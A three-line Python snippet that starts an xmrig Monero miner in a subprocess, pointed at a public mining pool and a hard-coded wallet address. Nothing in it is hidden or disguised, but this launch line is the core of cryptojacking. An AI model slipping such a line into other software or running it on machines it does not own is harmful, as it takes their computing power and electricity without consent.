
POOL = "stratum+tcp://pool.minexmr.com:4444"
import subprocess
subprocess.Popen(["./xmrig", "-o", POOL, "-u", "44AFFq5kSiGBoZ"])
